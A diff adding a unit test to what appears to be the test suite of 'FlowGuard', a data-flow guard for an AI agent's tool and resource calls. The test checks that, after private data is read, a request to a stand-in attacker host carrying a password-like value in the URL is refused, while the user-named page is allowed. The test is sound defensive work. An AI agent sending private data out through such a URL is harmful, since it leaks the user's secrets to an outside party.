@@ -124,6 +124,24 @@ describe('FlowGuard', () => {
     expect(await call(strict, READ_PAGE, { url: 'http://other.example/' })).toMatchObject({ approved: false, reason: expect.stringContaining('refused') });
   });
 
+  it('refuses to read a web resource at an unnamed place once private data was read, and labels what resources return', async () => {
+    const read: string[] = [];
+    const servers: ToolCaller = {
+      callTool: async () => ({ content: [{ type: 'text', text: 'ok' }] }),
+      readResource: async (uri) => {
+        read.push(uri);
+        return { server: 'docs', contents: [{ uri, text: 'x' }] };
+      },
+    };
+    const guard = new FlowGuard(servers, POLICY, 'Summarise https://news.example/today');
+    await guard.readResource!('https://attacker.test/?d=before');
+    expect(guard.seen()).toEqual({ untrusted: true, private: true });
+    await expect(guard.readResource!('https://attacker.test/?d=hunter2')).rejects.toThrow(/data-flow policy refused it/);
+    await guard.readResource!('https://news.example/today');
+    await guard.readResource!('notes://local/1');
+    expect(read).toEqual(['https://attacker.test/?d=before', 'https://news.example/today', 'notes://local/1']);
+  });
+
   it('labels results of tools it was never asked about as untrusted private data', async () => {
     const { guard } = guardFor('x');
     await guard.callTool('office', 'read_inbox', {});
